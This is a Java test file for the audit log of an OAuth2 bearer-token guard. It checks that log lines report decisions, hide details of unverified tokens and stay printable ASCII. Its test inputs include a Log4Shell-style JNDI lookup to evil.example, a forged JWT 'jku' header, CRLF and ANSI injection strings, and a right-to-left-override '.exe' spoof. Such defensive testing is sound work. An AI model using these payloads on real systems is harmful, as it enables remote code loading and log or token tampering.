package io.github.bearergate.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.util.JSONObjectUtils;
import io.github.bearergate.ApiRequest;
import io.github.bearergate.Decision;
import io.github.bearergate.GuardEvent;
import io.github.bearergate.GuardListener;
import io.github.bearergate.Reason;
import io.github.bearergate.RequestGuard;
import io.github.bearergate.servlet.Guards;
import io.github.bearergate.spi.SourceUnavailableException;
import io.github.bearergate.testkit.TestIssuer;
import io.github.bearergate.testkit.TokenBuilder;
import java.text.ParseException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What one line of the audit log says. */
class AuditLineTest {
    private static final Instant NOW = Instant.parse("2026-11-22T12:00:00.123456Z");
    private static final Clock CLOCK = Clock.fixed(NOW, ZoneOffset.UTC);
    private static final List<GuardEvent> EVENTS = new ArrayList<>();
    private static final TestIssuer ISSUER = TestIssuer.start();
    private static final RequestGuard GUARD = Guards.ready(
            ISSUER,
            """
            GET /open is open
            GET /orders/** needs orders:read and orders:list
            GET /reports needs reports:read or orders:admin
            """,
            builder -> builder.clock(CLOCK)
                    .revocationList((issuer, jti) -> {
                        if (jti.equals("unknowable")) {
                            throw new SourceUnavailableException("away", Duration.ofSeconds(1));
                        }
                        return false;
                    })
                    .listener(new GuardListener() {
                        @Override
                        public void decided(GuardEvent event) {
                            EVENTS.add(event);
                        }
                    }));

    private static final RequestOrigin ORIGIN = new RequestOrigin() {
        @Override
        public String clientAddress() {
            return "192.0.2.7";
        }

        @Override
        public Optional<String> traceId() {
            return Optional.of("0af7651916cd43dd8448eb211c80319c");
        }
    };

    @AfterAll
    static void close() {
        GUARD.close();
        ISSUER.close();
    }

    @Test
    void aRefusalOfAGenuineTokenTellsWhoWasRefusedAndWhatWasMissing() {
        String line = line("GET", "/orders/7", token().scope("orders:read").jti("token-1"));

        assertThat(line)
                .isEqualTo("{\"@timestamp\":\"2026-11-22T12:00:00.123Z\",\"event.action\":\"authorize-request\","
                        + "\"event.type\":\"denied\",\"event.outcome\":\"failure\",\"event.reason\":\"INSUFFICIENT_SCOPE\","
                        + "\"http.request.method\":\"GET\",\"http.response.status_code\":403,\"url.path\":\"/orders/7\","
                        + "\"client.address\":\"192.0.2.7\",\"trace.id\":\"0af7651916cd43dd8448eb211c80319c\","
                        + "\"oauth2.rule.id\":\"GET /orders/**\",\"oauth2.scope.required\":[\"orders:read\",\"orders:list\"],"
                        + "\"oauth2.policy.digest\":\"" + GUARD.policy().digest() + "\","
                        + "\"oauth2.issuer\":\"" + ISSUER.issuer() + "\",\"oauth2.client_id\":\"test-client\","
                        + "\"oauth2.subject_hash\":\"2bd806c97f0e00af\",\"oauth2.scope.granted\":[\"orders:read\"],"
                        + "\"oauth2.token.alg\":\"RS256\",\"oauth2.token.kid\":\"" + ISSUER.kid() + "\","
                        + "\"oauth2.token.id_hash\":\"" + Fingerprint.of("token-1") + "\","
                        + "\"oauth2.token.expires_in_s\":300,\"oauth2.memo\":\"miss\"}");
    }

    @Test
    void anAllowanceHasNoReasonAndNoStatusYet() throws ParseException {
        String token = token().scope("orders:read orders:list").sign();
        decide("GET", "/orders/7", token);
        Map<String, Object> line = JSONObjectUtils.parse(decide("GET", "/orders/7", token));

        assertThat(line)
                .containsEntry("event.type", "allowed")
                .containsEntry("event.outcome", "success")
                .containsEntry("oauth2.memo", "hit")
                .doesNotContainKeys("event.reason", "http.response.status_code");
    }

    @Test
    void anOutageIsNeitherSuccessNorFailure() throws ParseException {
        Map<String, Object> line = JSONObjectUtils.parse(line("GET", "/orders/7", token().jti("unknowable")));

        assertThat(line)
                .containsEntry("event.type", "error")
                .containsEntry("event.outcome", "unknown")
                .containsEntry("event.reason", "REVOCATION")
                .containsEntry("http.response.status_code", 503L)
                .doesNotContainKeys("oauth2.issuer", "oauth2.subject_hash");
    }

    @Test
    void aTokenThatDidNotVerifySaysNothing() throws ParseException {
        for (TokenBuilder bad : List.of(
                token().expiresAt(NOW.minusSeconds(61)),
                token().signature(new byte[256]),
                token().header("jku", "https://evil.example/"),
                token().audience("https://other.example"))) {
            Map<String, Object> line = JSONObjectUtils.parse(line(
                    "GET",
                    "/orders/7",
                    bad.subject("secret-subject").clientId("secret-client").jti("secret-id")));

            assertThat(line).containsEntry("event.type", "denied");
            assertThat(line.keySet()).noneMatch(name -> name.startsWith("oauth2.token"));
            assertThat(line)
                    .doesNotContainKeys(
                            "oauth2.issuer",
                            "oauth2.client_id",
                            "oauth2.subject_hash",
                            "oauth2.scope.granted",
                            "oauth2.memo");
        }
    }

    @Test
    void aRequestThatMatchesNoRuleSaysSo() throws ParseException {
        assertThat(JSONObjectUtils.parse(line("GET", "/nowhere", token())))
                .containsEntry("oauth2.rule.id", "none")
                .doesNotContainKey("oauth2.scope.required");
    }

    @Test
    void everyAlternativeOfARuleIsRequired() throws ParseException {
        assertThat(JSONObjectUtils.parse(line("GET", "/reports", token())))
                .containsEntry("oauth2.scope.required", List.of("reports:read", "orders:admin"));
    }

    @Test
    void anAmbiguousPathIsNotRepeated() {
        GUARD.decide(ApiRequest.of("GET", "/orders//7;secret", List.of()));

        assertThat(AuditLine.of(lastEvent(), Optional.empty(), NOW))
                .contains("\"event.reason\":\"AMBIGUOUS_PATH\"")
                .contains("\"http.response.status_code\":400")
                .doesNotContain("url.path", "secret", "client.address", "trace.id");
    }

    @Test
    void aTokenBeyondItsEndButWithinTheLeewayHasANegativeRest() {
        assertThat(line(
                        "GET",
                        "/orders/7",
                        token().issuedAt(NOW.minusSeconds(90)).expiresAt(NOW.minusSeconds(30))))
                .contains("\"oauth2.token.expires_in_s\":-30,");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\nb",
                "\u001b[31mred",
                "a\"b",
                "a\\b",
                "\u0085\u2028\u2029",
                "${jndi:ldap://evil.example/x}",
                "\u202Egnp.exe",
                "\u0000",
                "é🍉"
            })
    void aLineIsPrintableAsciiWhateverTheTokenSays(String text) throws ParseException {
        String line = line("GET", "/orders/7", token().clientId(text));

        assertThat(line).matches("[ -~]+").doesNotContain("${");
        assertThat(JSONObjectUtils.parse(line)).containsEntry("oauth2.client_id", text);
    }

    @Test
    void aTextIsCutAfter128Characters() throws ParseException {
        assertThat(JSONObjectUtils.parse(line("GET", "/orders/7", token().clientId("x".repeat(128)))))
                .containsEntry("oauth2.client_id", "x".repeat(128));
        assertThat(JSONObjectUtils.parse(line("GET", "/orders/7", token().clientId("x".repeat(129)))))
                .containsEntry("oauth2.client_id", "x".repeat(128));
        assertThat(JSONObjectUtils.parse(line("GET", "/orders/7", token().clientId("x".repeat(127) + "🍉"))))
                .containsEntry("oauth2.client_id", "x".repeat(127));
    }

    @Test
    void aListIsCutAfter32Elements() throws ParseException {
        String[] scopes = IntStream.range(0, 33).mapToObj(i -> "s" + i).toArray(String[]::new);

        assertThat(JSONObjectUtils.parse(line("GET", "/orders/7", token().scope(scopes)))
                        .get("oauth2.scope.granted"))
                .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST)
                .hasSize(32);
    }

    @Test
    void everyReasonIsWrittenAsItIsNamed() throws ParseException {
        for (Reason reason : Reason.values()) {
            GuardEvent event = new GuardEvent(
                    ApiRequest.ambiguous("GET"),
                    new Decision.Deny(Optional.empty(), reason, Optional.empty()),
                    Optional.empty(),
                    "digest");

            assertThat(JSONObjectUtils.parse(AuditLine.of(event, Optional.empty(), NOW)))
                    .containsEntry("event.reason", reason.name())
                    .containsEntry("http.response.status_code", (long) reason.status());
        }
    }

    /** As {@code printf %s alice | sha256sum | cut -c1-16} prints it. */
    @Test
    void aFingerprintIsTheBeginningOfTheSha256() {
        assertThat(Fingerprint.of("alice")).isEqualTo("2bd806c97f0e00af");
    }

    private static TokenBuilder token() {
        return ISSUER.token().clock(CLOCK);
    }

    private static String line(String method, String path, TokenBuilder token) {
        return decide(method, path, token.sign());
    }

    private static String decide(String method, String path, String token) {
        GUARD.decide(ApiRequest.of(method, path, List.of("Bearer " + token)));
        String line = AuditLine.of(lastEvent(), Optional.of(ORIGIN), NOW);
        assertThat(line).doesNotContain(token);
        return line;
    }

    private static GuardEvent lastEvent() {
        return EVENTS.get(EVENTS.size() - 1);
    }
}
